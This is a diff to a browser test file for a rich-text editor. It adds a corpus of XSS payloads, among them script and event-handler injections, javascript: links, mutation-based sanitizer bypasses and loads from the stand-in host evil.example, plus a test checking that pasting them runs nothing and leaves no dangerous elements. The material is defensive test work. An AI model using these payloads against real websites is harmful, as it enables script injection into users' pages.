@@ -12,6 +12,29 @@ const p = (value: string) => ({ type: 'paragraph', content: [{ type: 'text', tex
 const doc = (...content: unknown[]) => ({ type: 'doc', content })
 const clipboard = (name: string) => readFileSync(new URL(`clipboards/${name}`, import.meta.url), 'utf8')
 
+/** Each would leave a trace in `window.ran`, or ask another host, if any of it were put into a page. */
+const hostile = [
+  '<script>window.ran = 1</script>',
+  '<script src="https://evil.example/x.js"></script>',
+  '<img src="https://evil.example/x" onerror="window.ran = 2">',
+  '<img srcset="https://evil.example/2x 2x">',
+  '<svg onload="window.ran = 3"><script>window.ran = 4</script><image href="https://evil.example/i"/></svg>',
+  '<math><mtext></table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.ran=5&gt;">',
+  '<iframe srcdoc="<script>parent.ran = 6</script>"></iframe><iframe src="https://evil.example/"></iframe>',
+  '<a href="javascript:window.ran = 7">x</a><a href="jav&#x09;ascript:window.ran=7">x</a><a href=" data:text/html,x">x</a>',
+  '<body onload="window.ran = 8"><base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/x.css">',
+  '<p style="background: url(https://evil.example/x.png)">x</p><style>@import "https://evil.example/y.css"</style>',
+  '<form action="https://evil.example/"><button formaction="javascript:window.ran = 9">x</button></form>',
+  '<object data="https://evil.example/x"></object><embed src="https://evil.example/x">',
+  '<video src="https://evil.example/v" poster="https://evil.example/p" autoplay onloadstart="window.ran = 10"></video>',
+  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
+  '<noscript><p title="</noscript><img src=x onerror=window.ran=11>"></noscript>',
+  '<template><img src=x onerror=window.ran=12></template><xmp><img src=x onerror=window.ran=13></xmp>',
+  '<table background="https://evil.example/t"><tr><td background="https://evil.example/c">a<td>b</table>',
+  '<div data-pm-slice="0 0 []"><p>x</p></div><p contenteditable autofocus onfocus="window.ran = 14">x</p>',
+  '<details open ontoggle="window.ran = 15"><summary>x</summary></details><input autofocus onfocus="window.ran = 16">',
+]
+
 /** What the browser does when somebody pastes: an event that carries what the other program has put there. */
 async function paste(page: Page, data: Record<string, string>) {
   await text(page).evaluate((element, given) => {
@@ -215,6 +238,26 @@ test.describe('pasting', () => {
     expect(await types(page)).toEqual(['paragraph'])
     expect(JSON.stringify(await body(page))).not.toContain('javascript')
     expect(watch.foreign).toEqual([])
+  })
+
+  test('nothing of the hostile corpus runs or asks for anything, as markup or as text', async ({ page }) => {
+    const watch = await openEditor(page)
+    await text(page).click()
+    for (const attack of hostile) {
+      await paste(page, { 'text/html': `<p>avant</p>${attack}<p>après</p>`, 'text/plain': 'x' })
+      await paste(page, { 'text/plain': attack })
+    }
+    await page.getByRole('button', { name: 'Plan' }).click()
+    await page.waitForTimeout(200)
+    expect(await page.evaluate(() => (window as { ran?: number }).ran)).toBeUndefined()
+    expect(watch).toEqual({ foreign: [], refused: [] })
+    const stored = await body(page)
+    expect(new Set(stored.content.map((block) => block.type))).toEqual(new Set(['paragraph', 'table']))
+    expect(
+      await text(page)
+        .locator('script, style, iframe, object, embed, form, base, link, meta, video, [onerror], [onload], [href^="javascript" i], [srcdoc]')
+        .count(),
+    ).toBe(0)
   })
 
   test('an address over words makes a link of them', async ({ page }) => {
